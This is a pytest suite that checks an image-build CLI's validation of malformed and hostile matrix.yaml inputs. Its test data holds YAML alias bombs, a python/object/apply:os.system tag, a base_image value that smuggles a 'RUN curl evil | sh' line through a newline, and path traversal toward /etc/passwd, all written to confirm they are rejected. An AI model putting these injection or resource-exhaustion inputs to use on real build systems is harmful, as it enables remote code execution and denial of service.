"""Malformed and hostile matrix inputs, each through the real CLI (`build.py plan`).

Every case asserts: the exit code (2 for bad input, 0 where the input is legitimate and
supported, such as merge keys), no traceback, a file:line:col location and a `fix:` in
the message, the expected words, nothing written in the matrix folder, and under 2 s and
256 MB. Cases that could eat memory or time (alias bombs, deep nesting, huge numbers) run
`build.py` as a subprocess under RLIMIT_AS 256 MB and a 2 s timeout; the rest run
in-process, with the peak of Python allocations measured by tracemalloc.
"""

from __future__ import annotations

import json
import re
import resource
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from imagebuild import REPO_ROOT
from imagebuild.cli import main
from tests.support.bad_input import (
    LIMIT_BYTES,
    LIMIT_S,
    WALL_LIMIT_S,
    children_cpu_s,
    run_cli_measured,
    tree_snapshot,
)

TAG = "2026-06-18-dflashfix"
LOCATION = re.compile(r"(?:^|[\s\[])(\S+?):(\d+):(\d+)")
EDIT = Callable[[Path], None]


def sub(*pairs: str) -> EDIT:
    """Replace each (old, new) once in matrix.yaml; the old text must be there."""
    def edit(root: Path) -> None:
        path = root / "matrix.yaml"
        text = path.read_text()
        for old, new in zip(pairs[::2], pairs[1::2], strict=True):
            assert old in text, f"case no longer matches matrix.yaml: {old!r}"
            text = text.replace(old, new, 1)
        path.write_text(text)
    return edit


def write(content: str | bytes) -> EDIT:
    def edit(root: Path) -> None:
        path = root / "matrix.yaml"
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)
    return edit


def then(*edits: EDIT) -> EDIT:
    def edit(root: Path) -> None:
        for e in edits:
            e(root)
    return edit


def symlink(rel: str, to: str) -> EDIT:
    def edit(root: Path) -> None:
        (root / rel).symlink_to(to)
    return edit


@dataclass(frozen=True)
class Case:
    id: str
    edit: EDIT
    expect: str  # words the message must hold
    line_of: str | None = None  # the location must name the line holding this text
    code: int = 2
    target: str = "cpu"
    env: dict[str, str] = field(default_factory=dict)
    matrix: str = "matrix.yaml"  # what --matrix names, relative to the copy
    subprocess: bool = False  # alias bombs and friends: a hard memory limit


BILLION_LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{b}: &{b} [{', '.join(['*' + a] * 9)}]\n"
    for a, b in zip("abcdefgh", "bcdefghi", strict=True))
MERGE_BOMB = "a: &a {k0: v, k1: v, k2: v, k3: v, k4: v, k5: v, k6: v, k7: v}\n" + "".join(
    f"{b}: &{b} {{{', '.join(f'{b}{i}: *{a}' for i in range(9))}}}\n"
    for a, b in zip("abcdefgh", "bcdefghi", strict=True))
MERGES_OF_MERGES = "a: &a {k0: v, k1: v, k2: v, k3: v, k4: v, k5: v, k6: v, k7: v}\n" + "".join(
    f"{b}: &{b} {{<<: [{', '.join(['*' + a] * 9)}]}}\n"
    for a, b in zip("abcdefgh", "bcdefghi", strict=True))
DEEP = "schema: 1\npublish: " + "[" * 900 + "]" * 900 + "\n"
CPU_ARGS = "    methods: [ngram]\n    args:\n      max-model-len: 512\n"

CASES = [
    # --- the file itself -------------------------------------------------------------------------
    Case("billion-laughs", write(BILLION_LAUGHS), "billion laughs", subprocess=True),
    Case("billion-laughs-through-merge-keys", write(MERGE_BOMB), "billion laughs",
         subprocess=True),
    Case("billion-laughs-of-merge-keys", write(MERGES_OF_MERGES), "billion laughs",
         subprocess=True),
    Case("alias-containing-itself", write("schema: 1\npublish: &p [*p]\n"),
         "nested more than", subprocess=True),
    Case("merge-key-merging-itself", write("schema: 1\npublish: &p {<<: *p}\n"),
         "merge", subprocess=True),
    Case("nesting-900-deep", write(DEEP), "nested more than", subprocess=True),
    Case("integer-of-5000-digits", write("schema: 1\npublish: " + "9" * 5000 + "\n"),
         "5000 digits", subprocess=True),
    Case("file-of-2-mb", write("# " + "x" * (2 << 20) + "\n"), "a matrix is a few kilobytes"),
    Case("python-object-tag", sub("schema: 1\n",
                                  "schema: !!python/object/apply:os.system [echo]\n"),
         "python/object/apply:os.system", line_of="schema: !!python"),
    Case("python-name-tag-on-a-key-value", sub("  namespace: vllm-spark",
                                               "  namespace: !!python/name:os.system ''"),
         "is not allowed", line_of="namespace: !!python"),
    Case("local-tag", sub("  namespace: vllm-spark", "  namespace: !secret vllm-spark"),
         "tag '!secret' is not allowed", line_of="!secret"),
    Case("set-tag", sub("    runner: [ubuntu-24.04]", "    runner: !!set {ubuntu-24.04}"),
         "is not allowed", line_of="!!set"),
    Case("not-utf8", write(b"schema: 1\npublish:\n  registry: caf\xe9\n"), "not UTF-8"),
    Case("directory-as-matrix", lambda root: (root / "d.yaml").mkdir(), "is a directory",
         matrix="d.yaml"),
    Case("missing-file", lambda root: None, "not found", matrix="nope.yaml"),
    Case("device-as-matrix", lambda root: None, "is not a regular file", matrix="/dev/zero",
         subprocess=True),
    Case("dangling-symlink-as-matrix", symlink("gone.yaml", "nowhere.yaml"), "not found",
         matrix="gone.yaml"),
    Case("empty-file", write(""), "is empty"),
    Case("comments-only", write("# nothing here\n"), "is empty"),
    Case("top-level-list", write("- schema: 1\n"), "must be a mapping"),
    Case("two-documents", write("schema: 1\n---\nschema: 1\n"), "not valid YAML"),
    Case("tab-indentation", sub("  namespace: vllm-spark", "\tnamespace: vllm-spark"),
         "not valid YAML"),
    Case("key-read-as-boolean", sub("  cpu-ngram:\n", "  on:\n"),
         "YAML read on as the boolean true", line_of="  on:\n"),
    Case("list-as-key", sub("  cpu-ngram:\n", "  ? [cpu, ngram]\n  :\n"), "plain name",
         line_of="? [cpu"),
    Case("merge-of-a-scalar", sub(CPU_ARGS, CPU_ARGS + "      <<: 5\n"),
         "merges a mapping", line_of="<<: 5"),
    Case("duplicate-key-next-to-merge",
         sub("      max-num-seqs: 8\n", "      max-num-seqs: 8\n      max-num-seqs: 4\n"),
         "duplicate key 'max-num-seqs'", line_of="max-num-seqs: 4"),
    # --- YAML 1.1 surprises where a string is expected -------------------------------------------
    Case("octal-short-sha", sub("    revision: 31977fbe13a86e8b961774f773058175676d89b8",
                                "    revision: 0123456"),
         "YAML read 0123456 as the integer 42798 (a leading 0 means octal)",
         line_of="revision: 0123456"),
    Case("all-digit-short-sha", sub("    revision: 31977fbe13a86e8b961774f773058175676d89b8",
                                    "    revision: 1234567"),
         "YAML read 1234567 as the integer 1234567", line_of="revision: 1234567"),
    Case("on-as-env-value", sub('      VLLM_CPU_KVCACHE_SPACE: "1"',
                                "      VLLM_CPU_KVCACHE_SPACE: on"),
         "YAML read on as the boolean true", line_of="VLLM_CPU_KVCACHE_SPACE: on"),
    Case("underscore-number", sub('      VLLM_CPU_KVCACHE_SPACE: "1"',
                                  "      VLLM_CPU_KVCACHE_SPACE: 1_000"),
         "YAML read 1_000 as the integer 1000 (YAML 1.1 drops '_' from numbers)",
         line_of="1_000"),
    Case("hex-number", sub('      VLLM_CPU_KVCACHE_SPACE: "1"',
                           "      VLLM_CPU_KVCACHE_SPACE: 0x1F"),
         "YAML read 0x1F as the integer 31 (0x means hexadecimal)", line_of="0x1F"),
    Case("sexagesimal", sub("  namespace: vllm-spark", "  namespace: 1:20"),
         "YAML read 1:20 as the integer 80 (digits separated by ':' are base 60)",
         line_of="namespace: 1:20"),
    Case("dot-five-float", sub('      VLLM_CPU_KVCACHE_SPACE: "1"',
                               "      VLLM_CPU_KVCACHE_SPACE: .5"),
         "YAML read .5 as the number 0.5", line_of="VLLM_CPU_KVCACHE_SPACE: .5"),
    Case("version-as-float", sub("    vllm_version: 0.23.0", "    vllm_version: 0.23"),
         "YAML read 0.23 as the number 0.23", line_of="vllm_version: 0.23\n"),
    Case("arch-list-as-float", sub('      TORCH_CUDA_ARCH_LIST: "12.1a"',
                                   "      TORCH_CUDA_ARCH_LIST: 12.0"),
         "YAML read 12.0 as the number 12.0", line_of="TORCH_CUDA_ARCH_LIST: 12.0"),
    Case("date-as-description", sub("    description: tiny random Qwen3 model made locally "
                                    "from a fixed seed (the cpu target)",
                                    "    description: 2026-06-18"),
         "YAML read 2026-06-18 as the date 2026-06-18", line_of="description: 2026-06-18"),
    Case("date-in-drafter-options", sub("    options: {prompt_lookup_max: 3}",
                                        "    options: {prompt_lookup_max: 3, since: 2026-06-18}"),
         "YAML read 2026-06-18 as the date", line_of="since: 2026-06-18"),
    Case("empty-description", sub("    description: tiny random Qwen3 model made locally "
                                  "from a fixed seed (the cpu target)", "    description:"),
         "the value is empty", line_of="description:\n    generate"),
    Case("yes-as-tool-parser", sub("      tool-call-parser: hermes",
                                   "      tool-call-parser: yes"),
         "YAML read yes as the boolean true", line_of="tool-call-parser: yes"),
    Case("quoted-boolean-for-unified-memory", sub("    unified_memory: true",
                                                  '    unified_memory: "true"'),
         "must be true or false", line_of='unified_memory: "true"'),
    Case("yes-as-timeout", sub("    boot_timeout_s: 300", "    boot_timeout_s: yes"),
         "YAML read yes as the boolean true", line_of="boot_timeout_s: yes"),
    # --- numbers out of range --------------------------------------------------------------------
    Case("timeout-10-to-the-400", sub("    boot_timeout_s: 300",
                                      "    boot_timeout_s: 1" + "0" * 400),
         "an integer of 401 digits", line_of="boot_timeout_s: 1000"),
    Case("timeout-zero", sub("    boot_timeout_s: 300", "    boot_timeout_s: 0"),
         "greater than or equal to 10", line_of="boot_timeout_s: 0"),
    Case("max-jobs-zero", sub("    max_jobs: auto", "    max_jobs: 0"),
         "greater than or equal to 1", line_of="max_jobs: 0"),
    Case("nvcc-threads-1000", sub("    nvcc_threads: 2", "    nvcc_threads: 1000"),
         "less than or equal to 64", line_of="nvcc_threads: 1000"),
    Case("smoke-concurrency-zero", sub("    smoke_concurrency: [8]",
                                       "    smoke_concurrency: [0]"),
         "greater than or equal to 1", line_of="smoke_concurrency: [0]"),
    Case("bench-requests-a-billion", sub("      requests: 16", "      requests: 1000000000"),
         "less than or equal to 100000", line_of="requests: 1000000000"),
    Case("memory-limit-unit", sub("    memory_limit: 8g", "    memory_limit: 8x"),
         "is not a memory size", line_of="memory_limit: 8x"),
    Case("memory-limit-tiny", sub("    memory_limit: 8g", "    memory_limit: 64m"),
         "outside 1g..16t", line_of="memory_limit: 64m"),
    Case("seed-negative", sub("      seed: 0", "      seed: -1"),
         "greater than or equal to 0", line_of="seed: -1"),
    Case("multimodal-negative", sub("    multimodal: {image: 4, video: 2}",
                                    "    multimodal: {image: -4, video: 2}"),
         "greater than or equal to 0", line_of="image: -4"),
    # --- names: registry, namespace, images, versions, SHAs --------------------------------------
    Case("registry-with-scheme", sub("  registry: 127.0.0.1:5000",
                                     "  registry: https://registry.example.com/"),
         "has a URL scheme", line_of="registry: https"),
    Case("registry-without-dot", sub("  registry: 127.0.0.1:5000", "  registry: myregistry"),
         "Docker would read it as a namespace", line_of="registry: myregistry"),
    Case("registry-port-out-of-range", sub("  registry: 127.0.0.1:5000",
                                           "  registry: 127.0.0.1:99999"),
         "outside 1..65535", line_of="registry: 127.0.0.1:99999"),
    Case("namespace-uppercase", sub("  namespace: vllm-spark", "  namespace: VLLM"),
         "not a valid repository path", line_of="namespace: VLLM"),
    Case("namespace-trailing-dash", sub("  namespace: vllm-spark", "  namespace: vllm-"),
         "not a valid repository path", line_of="namespace: vllm-"),
    Case("env-registry-invalid", lambda root: None, "IMAGEBUILD_REGISTRY", line_of="registry:",
         env={"IMAGEBUILD_REGISTRY": "bad host!"}),
    Case("env-registry-empty", lambda root: None, "IMAGEBUILD_REGISTRY", line_of="registry:",
         env={"IMAGEBUILD_REGISTRY": ""}),
    Case("env-namespace-invalid", lambda root: None, "IMAGEBUILD_NAMESPACE",
         line_of="namespace:", env={"IMAGEBUILD_NAMESPACE": "Team/X"}),
    Case("repository-name-too-long", sub("  namespace: vllm-spark",
                                         "  namespace: " + "n" * 250),
         "Docker allows 255"),
    Case("base-image-with-newline", sub(
        "    base_image: localhost/imagebuild/debian:bookworm-minbase-py3",
        '    base_image: "debian:bookworm\\nRUN curl evil | sh"'),
         "holds a line feed (U+000A)", line_of='base_image: "debian'),
    Case("base-image-uppercase", sub(
        "    base_image: localhost/imagebuild/debian:bookworm-minbase-py3",
        "    base_image: localhost/ImageBuild/debian:bookworm"),
         "not a valid image reference", line_of="base_image: localhost/ImageBuild"),
    Case("vllm-version-not-pep440", sub("    vllm_version: 0.23.0", "    vllm_version: latest"),
         "is not a PEP 440 version", line_of="vllm_version: latest"),
    Case("wheel-version-not-pep440", sub("          version: 0.23.0", "          version: 0.23.x"),
         "is not a PEP 440 version", line_of="version: 0.23.x"),
    Case("short-source-commit", sub(
        "          commit: 91df0fad4dc98a67c7659d9dbd915245d5c43d96  # v0.23.0",
        "          commit: 91df0fad4dc9"), "all 40", line_of="commit: 91df0fad4dc9\n"),
    Case("uppercase-source-commit", sub(
        "          commit: 91df0fad4dc98a67c7659d9dbd915245d5c43d96  # v0.23.0",
        "          commit: 0FC695FC6D1D82E9A5AC6835AC8E4E1C83703665"), "all 40",
         line_of="commit: 0FC695"),
    # --- files the matrix names ------------------------------------------------------------------
    Case("patch-absolute", sub("          - cpu-ngram-fp64-gumbel.patch\n  pr41703",
                               "          - /etc/passwd\n  pr41703"),
         "is absolute", line_of="- /etc/passwd"),
    Case("patch-dot-dot", sub("          - cpu-ngram-fp64-gumbel.patch\n  pr41703",
                              "          - ../matrix.yaml\n  pr41703"),
         "leaves its folder with '..'", line_of="- ../matrix.yaml"),
    Case("patch-symlink-out", then(
        symlink("patches/out.patch", "/etc/hostname"),
        sub("          - cpu-ngram-fp64-gumbel.patch\n  pr41703",
            "          - out.patch\n  pr41703")),
         "symlink leading out", line_of="- out.patch"),
    Case("requirements-missing", sub(
        "          requirements: images/engine/cpu/requirements-vllm-cpu.txt",
        "          requirements: images/engine/cpu/requirements.txt"),
         "lock --update dflashfix", line_of="requirements: images/engine/cpu/requirements.txt"),
    Case("generator-absolute", sub("      script: scripts/make_tiny_model.py",
                                   "      script: /usr/bin/python3"),
         "is absolute", line_of="script: /usr/bin"),
    Case("generator-symlink-out", then(
        symlink("scripts/evil.py", "/etc/hostname"),
        sub("      script: scripts/make_tiny_model.py", "      script: scripts/evil.py")),
         "symlink leading out", line_of="script: scripts/evil.py"),
    # --- serve flags against vLLM 0.23's CLI -----------------------------------------------------
    Case("flag-typo", sub("      max-num-seqs: 8", "      max-num-seqz: 8"),
         "did you mean max-num-seqs", line_of="max-num-seqz: 8"),
    Case("flag-abbreviated", sub("      max-num-seqs: 8", "      max-num-seq: 8"),
         "abbreviates --max-num-seqs", line_of="max-num-seq: 8"),
    Case("flag-wrong-type", sub("      max-num-seqs: 8", "      max-num-seqs: eight"),
         "takes an integer", line_of="max-num-seqs: eight"),
    Case("flag-float-for-int", sub("      max-num-seqs: 8", "      max-num-seqs: 8.5"),
         "takes an integer", line_of="max-num-seqs: 8.5"),
    Case("flag-bad-choice", sub("      dtype: bfloat16", "      dtype: bf16"),
         "did you mean bfloat16", line_of="dtype: bf16"),
    Case("flag-unregistered-tool-parser", sub("      tool-call-parser: hermes",
                                              "      tool-call-parser: hermez"),
         "did you mean hermes", line_of="tool-call-parser: hermez"),
    Case("flag-unregistered-reasoning-parser", sub("      reasoning-parser: qwen3\n    env",
                                                   "      reasoning-parser: qwen-3\n    env"),
         "did you mean qwen3", line_of="reasoning-parser: qwen-3"),
    Case("flag-bool-given-text", sub("      enforce-eager: true", '      enforce-eager: "yes"'),
         "is an on/off flag", line_of='enforce-eager: "yes"'),
    Case("flag-with-underscores", sub("      max-num-seqs: 8", "      max_num_seqs: 8"),
         "write max-num-seqs", line_of="max_num_seqs: 8"),
    Case("flag-with-dashes", sub("      max-num-seqs: 8", "      --max-num-seqs: 8"),
         "starts with '-'", line_of="--max-num-seqs: 8"),
    Case("flag-owned-by-imagebuild", sub("      max-num-seqs: 8", "      max-num-seqs: 8\n"
                                                                "      model: /other"),
         "written by imagebuild", line_of="model: /other"),
    # the port is set once in the `loopback` profile the others extend: the error names
    # that line, where it is written
    Case("flag-port-out-of-range", sub("      host: 127.0.0.1\n      port: 8000\n",
                                       "      host: 127.0.0.1\n      port: 80000\n"),
         "port 80000 is outside", line_of="port: 80000"),
    Case("flag-gpu-memory-over-one", sub("      max-num-seqs: 8", "      max-num-seqs: 8\n"
                                         "      gpu-memory-utilization: 1.5"),
         "is outside (0, 1]", line_of="gpu-memory-utilization: 1.5"),
    Case("flag-max-model-len-garbage", sub("      max-model-len: 512", "      max-model-len: 16q"),
         "human int", line_of="max-model-len: 16q"),
    Case("flag-config-json-key-typo", sub("      max-num-seqs: 8", "      max-num-seqs: 8\n"
                                          "      compilation-config: {cudagraph_mod: NONE}"),
         "did you mean cudagraph_mode", line_of="compilation-config:"),
    Case("flag-dotted-key-on-int-option", sub("      max-num-seqs: 8", "      max-num-seqs.x: 8"),
         "only JSON options take dotted keys", line_of="max-num-seqs.x: 8"),
    Case("speculative-option-typo", sub("    options: {prompt_lookup_max: 3}",
                                        "    options: {prompt_lookup_maxx: 3}"),
         "did you mean prompt_lookup_max", line_of="options: {prompt_lookup_maxx"),
    Case("quantization-unknown", sub("    served_names: [tiny, tiny-alias]",
                                     "    quantization: nvfp4-ish\n"
                                     "    served_names: [tiny, tiny-alias]"),
         "not a method vLLM 0.23.0 knows", line_of="quantization: nvfp4-ish"),
    # --- legitimate inputs that work -------------------------------------------------------------
    Case("ok-env-registry-and-namespace", lambda root: None, "registry.example.com:5443/team/"
         "vllm/cpu-tiny-ngram", code=0,
         env={"IMAGEBUILD_REGISTRY": "registry.example.com:5443",
              "IMAGEBUILD_NAMESPACE": "team/vllm"}),
    Case("ok-memory-in-gib", sub("    memory_limit: 8g", "    memory_limit: 8GiB"),
         "cpu-tiny-ngram", code=0),
    Case("ok-no-flag-form", sub("      max-num-seqs: 8",
                                "      max-num-seqs: 8\n      no-enable-prefix-caching: true"),
         "profile  cpu-ngram", code=0),
    Case("ok-quoted-version", sub("    vllm_version: 0.23.0", '    vllm_version: "0.23.0"'),
         "cpu-tiny-ngram", code=0),
]



def _argv(root: Path, case: Case, fmt: str = "table") -> list[str]:
    return ["plan", "--tag", TAG, "--target", case.target, "--matrix",
            str(root / case.matrix), "--format", fmt]


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (LIMIT_BYTES, LIMIT_BYTES))


def _run_subprocess(root: Path, case: Case) -> tuple[int, str, float]:
    """(exit code, output, CPU seconds) of `build.py` on the case in a process of its own."""
    start = children_cpu_s()
    try:
        proc = subprocess.run([sys.executable, str(REPO_ROOT / "build.py"), *_argv(root, case)],
                              capture_output=True, text=True, timeout=WALL_LIMIT_S,
                              preexec_fn=_limit_memory, cwd=root)
    except subprocess.TimeoutExpired:
        pytest.fail(f"{case.id}: still running after {WALL_LIMIT_S} s")
    return proc.returncode, proc.stdout + proc.stderr, children_cpu_s() - start


def _run_in_process(root: Path, case: Case, capsys: pytest.CaptureFixture[str]
                    ) -> tuple[int, str, float]:
    code, output, elapsed, peak = run_cli_measured(_argv(root, case), case.id, capsys)
    assert peak < LIMIT_BYTES, f"{case.id}: {peak / 2**20:.0f} MB allocated"
    return code, output, elapsed


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input(case: Case, matrix_dir: Path, capsys: pytest.CaptureFixture[str],
                   monkeypatch: pytest.MonkeyPatch) -> None:
    for var in ("IMAGEBUILD_REGISTRY", "IMAGEBUILD_NAMESPACE"):
        monkeypatch.delenv(var, raising=False)
    for var, value in case.env.items():
        monkeypatch.setenv(var, value)
    case.edit(matrix_dir)
    before = tree_snapshot(matrix_dir)
    if case.subprocess:
        code, output, elapsed = _run_subprocess(matrix_dir, case)
    else:
        code, output, elapsed = _run_in_process(matrix_dir, case, capsys)
    assert code == case.code, output
    assert "Traceback" not in output, output
    assert case.expect in output, output
    assert elapsed < LIMIT_S, f"{case.id} took {elapsed:.2f} s of CPU"
    assert tree_snapshot(matrix_dir) == before, "something was written"
    if case.code == 0:
        return
    assert "fix:" in output, output
    located = [m for m in LOCATION.finditer(output) if not m.group(1).startswith("http")]
    assert located, f"no file:line:col in {output}"
    if case.line_of is not None:
        text = (matrix_dir / case.matrix).read_text()
        line = text.count("\n", 0, text.index(case.line_of)) + 1
        assert int(located[0].group(2)) == line, f"expected line {line}: {output}"


def _plan_json(root: Path) -> dict:
    case = Case("json", lambda r: None, "")
    return json.loads(_plan_stdout(root, _argv(root, case, "json")))


def _plan_stdout(root: Path, argv: list[str]) -> str:
    import contextlib
    import io

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(argv)
    assert code == 0, err.getvalue()
    return out.getvalue()


MERGED_PROFILES = """\
  cpu-lean:
    description: the cpu profile's args with fewer sequences, through a merge key
    extends: loopback
    target: cpu
    methods: [ngram]
    args:
      <<: *cpu-args
      max-num-seqs: 4
    acceptance_floor: 0.3
  cpu-leaner:
    description: two merged mappings; the earlier one wins
    extends: loopback
    target: cpu
    methods: [ngram]
    args:
      <<: [*lean, *cpu-args]
    acceptance_floor: 0.3

images:
  lean:
    description: cells of the merged profiles
    target: cpu
    name: "{family}-{profile}"
    matrix:
      engine: [dflashfix]
      model: [tiny]
      drafter: [ngram]
      profile: [cpu-lean, cpu-leaner]
"""


def _with_merges(root: Path, extra: str = "") -> None:
    sub("    methods: [ngram]\n    args:\n", "    methods: [ngram]\n    args: &cpu-args\n",
        "    acceptance_floor: 0.15\n\nimages:\n",
        "    acceptance_floor: 0.15\n  lean-args:\n    description: holds the lean anchor\n"
        "    target: cpu\n    methods: [ngram]\n    args: &lean {max-num-seqs: 2, "
        "max-model-len: 256" + extra + "}\n    acceptance_floor: 0.3\n" + MERGED_PROFILES)(root)


def test_merge_keys_share_profile_args(matrix_dir: Path) -> None:
    _with_merges(matrix_dir)
    argv = {c["profile"]: c["serve"] for c in _plan_json(matrix_dir)["cells"]}

    def flag(profile: str, name: str) -> str:
        cmd = argv[profile]
        return cmd[cmd.index(f"--{name}") + 1]

    base = argv["cpu-ngram"]
    assert flag("cpu-lean", "max-num-seqs") == "4"  # written beside the merge: wins
    assert flag("cpu-lean", "dtype") == "bfloat16"  # merged from the cpu profile
    assert set(base) - {"8"} <= set(argv["cpu-lean"])
    assert flag("cpu-leaner", "max-num-seqs") == "2"  # earlier merged mapping wins
    assert flag("cpu-leaner", "max-model-len") == "256"
    assert flag("cpu-leaner", "tool-call-parser") == "hermes"


def test_error_in_merged_value_points_at_where_it_is_written(matrix_dir: Path, capsys):
    _with_merges(matrix_dir, extra=", max-num-seqz: 3")
    code = main(["plan", "--tag", TAG, "--target", "cpu", "--matrix",
                 str(matrix_dir / "matrix.yaml")])
    err = capsys.readouterr().err
    assert code == 2, err
    text = (matrix_dir / "matrix.yaml").read_text()
    line = text.count("\n", 0, text.index("max-num-seqz")) + 1
    assert f"matrix.yaml:{line}:" in err, err
    assert "did you mean max-num-seqs" in err


def test_real_matrix_has_no_serve_flag_findings(matrix_dir: Path) -> None:
    """No false errors: every profile, model and drafter of the real matrix, all engines."""
    from imagebuild.lock.lockfile import read_lock
    from imagebuild.preflight.run import run_checks
    from imagebuild.spec import matrix as mx

    lm = mx.load(matrix_dir / "matrix.yaml")
    cells = mx.expand(lm)
    assert {c.target_name for c in cells} == {"gb10", "cpu"}
    findings = run_checks(lm, cells, read_lock(lm.root))
    assert not [f for f in findings if f.rule.startswith("serve-flag")]


def test_a_long_place_is_never_split_across_lines() -> None:
    """A file:line:column longer than the table is wide stays whole on its line (under a
    deep temp dir the table split `matrix.yaml:219` from `:15`)."""
    from imagebuild.preflight.findings import WIDTH, Finding, format_table

    where = "/tmp/" + "deep/" * 30 + "matrix.yaml:219:15"
    table = format_table([Finding(cell="cpu/x", rule="serve-flag-value", severity="error",
                                  message="bad value", fix="use another", where=where)])
    assert any(line.strip() == f"at {where}" or line.strip() == where
               for line in table.splitlines()), table
    assert len(where) > WIDTH
